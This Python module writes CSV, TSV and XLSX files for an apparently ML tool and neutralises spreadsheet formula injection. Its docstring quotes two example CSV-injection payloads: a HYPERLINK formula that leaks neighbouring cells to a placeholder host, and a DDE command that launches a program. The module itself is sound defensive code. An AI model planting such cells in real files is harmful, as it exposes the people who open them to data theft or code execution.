"""Every CSV, TSV and XLSX table we write goes through `TableWriter`, so spreadsheet safety is decided once.

Why: prediction files and tune results are opened in Excel or LibreOffice by exactly our users, and their cells
come from user data - input texts, column names, label names. A spreadsheet reads a cell whose text starts with
`=`, `+`, `-`, `@`, TAB or CR as a formula: `=HYPERLINK("http://x/?"&A2,"details")` sends neighbouring cells
to another site when clicked, `+cmd|' /C calc'!A0` starts a program through DDE on older Excel. Anyone who can
put one row into a file we predict on, or one label into training data, could plant such a cell (OWASP, "CSV
Injection"). So, with `safe=True` (the default; `domaintune predict --no-safe-cells` and `safe=False` turn it
off for programs that read the file back):

- CSV/TSV: a text cell starting with one of those six characters (or NUL, which OWASP's ASVS 1.2.10 adds:
  Excel skips it and reads the formula behind it) gets a leading `'`, which spreadsheets take as "this is
  text" (OWASP's rule). CSV fields holding the delimiter, a quote or a line break are quoted, quotes doubled,
  by the csv module (RFC 4180), so text after an embedded separator cannot become a cell of its own. No per-cell
  rule can help when a spreadsheet splits the file on another separator than it was written with (Excel in a
  locale whose list separator is `;`): for people who open predictions in Excel, `.xlsx` output is the safe
  choice, it has no separators at all.
- Only text is neutralised. Real numbers (int, float, numpy scalars) are never formulas and are written as they
  are, and so is a text that is exactly a decimal number ("-1.5", "+3", "2e-5"): a spreadsheet reads it as that
  number, nothing runs, and a `'` would turn a numeric column (a regression score, a feature) into text. A text
  such as "-1+2" is not a plain number and is neutralised.
- XLSX: cells are typed. Text is always stored as a text cell, never as a formula (openpyxl would otherwise store
  any string starting with "=" as a formula); with safe=True a formula-leading text also carries Excel's own
  quote-prefix flag - what Excel records when someone types '=... - so even editing the cell keeps it text. The
  text itself is unchanged, so a program reading the workbook gets the exact value in both modes. Characters
  XML cannot hold (control characters) become U+FFFD, and text past Excel's 32,767-character cell limit is cut
  there with a warning: Excel would refuse the whole workbook otherwise. A sheet holds at most 1,048,576 rows.
- TSV as our readers read it (and as text/tab-separated-values defines it) has no quoting, so a field cannot
  hold the delimiter or a line break; they become spaces. Otherwise Excel would start a new - unneutralised -
  cell at an embedded tab.

Files are written to a temporary file beside the target and renamed into place when complete (an interrupted
write leaves any earlier file intact), owner-only (0600): predictions hold the users' texts.
"""

from __future__ import annotations

import csv
import json
import logging
import math
import numbers
import os
import re
import tempfile
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Iterable, Sequence

log = logging.getLogger("domaintune")

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\0")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
XLSX_MAX_ROWS = 1_048_576
XLSX_MAX_CELL = 32_767
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")

#: Output formats by file suffix (predictions keep the input's format when the suffix says nothing).
OUTPUT_FORMATS = {".csv": "csv", ".tsv": "tsv", ".tab": "tsv", ".txt": "tsv", ".xlsx": "xlsx",
                  ".jsonl": "jsonl", ".ndjson": "jsonl", ".json": "jsonl"}


class TableWriteError(ValueError):
    """A table that the chosen format cannot hold (too many rows for a sheet, an unknown format)."""


def output_format(path: str | Path, default: str | None = None) -> str | None:
    """csv, tsv, xlsx or jsonl from the path's suffix; `default` when the suffix names none of them."""
    return OUTPUT_FORMATS.get(Path(path).suffix.lower(), default)


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read `text` as a formula (OWASP's six leading characters), plain numbers aside."""
    return text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text)


def neutralise(value: Any) -> Any:
    """`value` made safe for a CSV/TSV cell: a formula-like text gets a leading `'`; anything else is unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def _is_number(value: Any) -> bool:
    return isinstance(value, numbers.Number) and not isinstance(value, bool)


def _as_text(value: Any) -> str:
    """A cell of a text table: None and NaN empty, lists/dicts as JSON, everything else as str()."""
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    if isinstance(value, (list, tuple, dict)):
        return json.dumps(value, ensure_ascii=False)
    return value if isinstance(value, str) else str(value)


class TableWriter:
    """Write a CSV, TSV or XLSX file row by row (bounded memory), atomically, neutralising formula cells.

        with TableWriter("out.xlsx") as w:
            w.write_row(["text", "label", "score"])
            w.write_row(["=1+1", "refund", 0.93])

    `fmt`: csv, tsv or xlsx; default from the path's suffix. `delimiter`: for csv/tsv (default , and tab).
    `sheet`: the worksheet's name in an xlsx file.
    """

    def __init__(self, path: str | Path, fmt: str | None = None, *, safe: bool = True, delimiter: str | None = None,
                 sheet: str = "Sheet1"):
        self.path = Path(path)
        self.fmt = fmt or output_format(self.path)
        if self.fmt not in ("csv", "tsv", "xlsx"):
            raise TableWriteError(f"{self.path}: cannot write a table as {self.fmt or 'this file type'}; "
                                  f"name the file .csv, .tsv or .xlsx")
        self.safe = safe
        self.delimiter = delimiter or ("," if self.fmt == "csv" else "\t")
        self.sheet = sheet
        self.rows = 0
        self._tmp: str | None = None
        self._file = None
        self._truncated_warned = False

    # ---- lifecycle
    def __enter__(self) -> "TableWriter":
        from domaintune.security import private_dir

        private_dir(self.path.parent)
        fd, self._tmp = tempfile.mkstemp(prefix=f".{self.path.name}.", suffix=".tmp", dir=self.path.parent)  # 0600
        try:
            if self.fmt == "xlsx":
                os.close(fd)
                from openpyxl import Workbook

                self._book = Workbook(write_only=True)  # rows stream to a temporary file, not memory
                self._sheet = self._book.create_sheet(self.sheet)
            else:
                self._file = os.fdopen(fd, "w", encoding="utf-8", newline="")
                if self.fmt == "csv":
                    self._csv = csv.writer(self._file, delimiter=self.delimiter, quoting=csv.QUOTE_MINIMAL)
                else:
                    self._csv = csv.writer(self._file, delimiter=self.delimiter, quoting=csv.QUOTE_NONE,
                                           quotechar=None, escapechar=None)
        except BaseException:
            self._discard()
            raise
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        try:
            if exc_type is None:
                self._commit()
        finally:
            self._discard()

    def _discard(self) -> None:
        """Close and remove the temporary file (a no-op after a commit renamed it into place)."""
        if self._file is not None and not self._file.closed:
            self._file.close()
        if self._tmp is not None and os.path.exists(self._tmp):
            os.unlink(self._tmp)

    def _commit(self) -> None:
        if self.fmt == "xlsx":
            self._book.save(self._tmp)
            with open(self._tmp, "rb+") as f:
                os.fsync(f.fileno())
        else:
            self._file.flush()
            os.fsync(self._file.fileno())
            self._file.close()
        os.replace(self._tmp, self.path)
        self._tmp = None

    # ---- rows
    def write_row(self, cells: Sequence[Any]) -> None:
        self.rows += 1
        if self.fmt == "xlsx":
            if self.rows > XLSX_MAX_ROWS:
                raise TableWriteError(f"{self.path}: an Excel sheet holds at most {XLSX_MAX_ROWS:,} rows; "
                                      f"write this table as .csv instead")
            self._sheet.append([self._xlsx_cell(v) for v in cells])
        elif self.fmt == "csv":
            self._csv.writerow([self._text_cell(v) for v in cells])
        else:
            self._csv.writerow([self._tsv_cell(v) for v in cells])

    def write_rows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self.write_row(row)

    def _text_cell(self, value: Any) -> str:
        text = _as_text(value)
        return neutralise(text) if self.safe and not _is_number(value) else text

    def _tsv_cell(self, value: Any) -> str:
        text = _as_text(value)
        if self.delimiter in text or "\n" in text or "\r" in text:
            text = text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ").replace(self.delimiter, " ")
        return neutralise(text) if self.safe and not _is_number(value) else text

    def _xlsx_cell(self, value: Any):
        if value is None or isinstance(value, bool):
            return value
        if _is_number(value):
            number = int(value) if isinstance(value, numbers.Integral) else float(value)
            return number if math.isfinite(number) else str(number)  # Excel has no NaN/inf: keep them readable
        if hasattr(value, "isoformat") and not isinstance(value, str):
            return value  # date, time, datetime: native Excel dates
        text = _XML_ILLEGAL.sub("\ufffd", _as_text(value))
        if len(text) > XLSX_MAX_CELL:
            if not self._truncated_warned:
                log.warning("%s: a cell of %d characters was cut to Excel's limit of %d (row %d); write .csv to keep "
                            "whole texts", self.path, len(text), XLSX_MAX_CELL, self.rows)
                self._truncated_warned = True
            text = text[:XLSX_MAX_CELL]
        if not is_formula_like(text):
            return text  # openpyxl stores it as a text cell
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(self._sheet, value=text)
        cell.data_type = "s"  # text, never a formula (openpyxl makes any "=..." a formula)
        if self.safe:
            cell.quotePrefix = True  # Excel's own "typed as '=...": editing the cell keeps it text
        return cell


@contextmanager
def atomic_text(path: str | Path):
    """A text file (JSON lines, say) written beside `path` under a temporary name, fsynced and renamed into place
    on success, removed on error; owner-only like the tables."""
    from domaintune.security import private_dir

    path = Path(path)
    private_dir(path.parent)
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as f:
            yield f
            f.flush()
            os.fsync(f.fileno())
        os.replace(tmp, path)
    finally:
        if os.path.exists(tmp):
            os.unlink(tmp)


def write_table(rows: Any, path: str | Path, header: Sequence[str] | None = None, *, safe: bool = True,
                fmt: str | None = None, delimiter: str | None = None) -> Path:
    """Write `rows` (sequences, or a pandas DataFrame whose columns become the header) as CSV, TSV or XLSX
    (from the path's suffix, or `fmt`), atomically and neutralised as the module docstring says."""
    if hasattr(rows, "columns") and hasattr(rows, "itertuples"):  # a DataFrame, without importing pandas
        header = [str(c) for c in rows.columns] if header is None else header
        rows = rows.itertuples(index=False, name=None)
    with TableWriter(path, fmt, safe=safe, delimiter=delimiter) as w:
        if header is not None:
            w.write_row(list(header))
        w.write_rows(rows)
    return Path(path)
